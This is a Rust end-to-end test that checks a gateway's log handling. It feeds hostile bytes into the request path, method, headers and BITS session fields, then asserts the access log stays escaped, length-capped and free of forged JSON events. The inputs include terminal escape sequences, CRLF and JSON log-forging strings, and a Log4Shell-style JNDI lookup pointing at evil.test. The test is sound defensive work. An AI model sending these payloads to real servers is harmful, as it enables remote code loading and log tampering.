//! Bytes that would mean something to a terminal or to a reader of logs.

use e2e_tests::client::exchange;
use e2e_tests::farm::ORIGIN;
use e2e_tests::wait;

use crate::packets::Servers;

/// Threat: T14.
#[test]
fn t14_no_byte_of_a_client_leaves_its_string_in_a_log_line() {
    let servers = Servers::with(1, |farm| farm.set("log.level", "\"trace\""));
    let long = "y".repeat(2_000);
    let hostile = [
        "\u{1b}[2J\u{1b}]0;x\u{7}",
        "\"},{\"event\":\"forged\"",
        "a\u{85}b\u{a0}c",
        "\u{ff}\u{fe}\u{80}",
        "${jndi:ldap://evil.test/x}",
        "%0d%0a{\"event\":\"forged\"}",
        "a\nb{\"event\":\"forged\"}",
        &long,
    ];
    let places: [fn(&str) -> String; 6] = [
        |v| format!("BITS_POST /{v} HTTP/1.1\r\nHost: {ORIGIN}\r\nBITS-Packet-Type: Ping\r\n\r\n"),
        |v| format!("{v} / HTTP/1.1\r\nHost: {ORIGIN}\r\n\r\n"),
        |v| format!("GET /x HTTP/1.1\r\nHost: {v}\r\n\r\n"),
        |v| {
            format!(
                "GET /x HTTP/1.1\r\nHost: {ORIGIN}\r\nUser-Agent: {v}\r\nReferer: {v}\r\n{v}: x\r\n\r\n"
            )
        },
        |v| format!("BITS_POST /x HTTP/1.1\r\nHost: {ORIGIN}\r\nBITS-Packet-Type: {v}\r\n\r\n"),
        |v| {
            format!(
                "BITS_POST /x HTTP/1.1\r\nHost: {ORIGIN}\r\nBITS-Packet-Type: Close-Session\r\nBITS-Session-Id: {v}\r\n\r\n"
            )
        },
    ];
    let mut sent = 0;
    for value in hostile {
        for place in places {
            let bytes = e2e_tests::client::packet::latin1(&place(value));
            let _ = exchange(servers.farm.entrance(), &bytes);
            sent += 1;
        }
    }
    let gateway = servers.farm.gateway();
    let requests = || {
        let log = gateway.access_log();
        log.into_iter().filter(|line| line["event"] == "request").collect::<Vec<_>>()
    };
    wait::until("all are logged", || requests().len() >= sent);
    for line in requests() {
        for (key, value) in line.as_object().expect("an object") {
            let Some(text) = value.as_str() else { continue };
            // An escape takes more room than what it stands for.
            assert!(text.len() <= 4 * 256, "{key} has {} bytes", text.len());
            assert!(!text.chars().any(char::is_control), "{key}: {text:?}");
        }
    }
    for text in [gateway.log(), gateway.access_log().iter().map(ToString::to_string).collect()] {
        assert!(!text.contains('\u{1b}') && !text.contains("\"event\":\"forged\""), "{text}");
    }
    for line in gateway.log().lines() {
        assert!(serde_json::from_str::<serde_json::Value>(line).is_ok(), "{line}");
    }
    servers.farm.expect_healthy();
}
